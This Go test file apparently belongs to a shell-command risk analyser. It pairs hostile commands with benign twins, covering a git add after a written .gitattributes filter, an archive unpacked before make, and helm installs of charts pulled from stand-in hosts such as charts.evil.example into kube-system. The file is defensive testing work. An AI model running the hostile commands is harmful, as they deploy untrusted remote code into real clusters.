// Tests of the classes the fifth fresh corpus found (issue 27), each with
// a hostile case and its benign twin: git add writes the index, not the
// files it reads; a function that runs its "$@"; sh -n checks syntax;
// a secret given in the variable a program's API reads; a chart fetched
// from the network; a program of the project named as a known program;
// and the tables it needed (uv, build, kubectl, systemctl, aws, gcloud).
package commands

import "testing"

// git add reads the files it names and writes the index under .git: it
// is no archive unpacked over the project.
func TestGitAddWritesTheIndex(t *testing.T) {
	checkTwins(t, []twin{
		{name: ".gitattributes written, then git add", hostile: "echo '* filter=x' > .gitattributes; git add -A",
			want:   "which the script wrote at line 1 (write, then run)",
			benign: "echo x > CHANGELOG.md; git add CHANGELOG.md; git commit -qm 'changelog'; make"},
		{name: "an archive written, then unpacked, then make", hostile: "echo x > a.tgz; tar -xzf a.tgz; make",
			want: "it unpacked an archive it wrote at line 1", benign: "awk 1 NOTES.md > NOTES.md.new; mv NOTES.md.new NOTES.md; git add NOTES.md; make"},
	})
}

// helm install and upgrade of a chart fetched from the network (a URL, an
// OCI reference, --repo) deploy code the device cannot see; a chart by
// path is the project's.
func TestHelmChartFromTheNetwork(t *testing.T) {
	checkTwins(t, []twin{
		{name: "a chart by URL", hostile: "helm install probe https://charts.evil.example/probe-0.1.0.tgz -n kube-system",
			want: "helm deploys a chart fetched from the network", benign: "helm upgrade --install api ./charts/api -n api -f deploy/values.yaml --wait"},
		{name: "an OCI chart", hostile: "helm upgrade --install x oci://registry.evil.example/charts/x", want: "from registry.evil.example",
			benign: "helm install api charts/api --dry-run"},
		{name: "--repo", hostile: "helm install --repo https://charts.evil.example x nginx", want: "the chart repository https://charts.evil.example",
			benign: "helm lint ./charts/api"},
		{name: "a chart decided at run time", hostile: "helm install x \"$CHART\"", want: "a chart decided at run time", benign: "helm install \"$NAME\" ./charts/api"},
	})
}
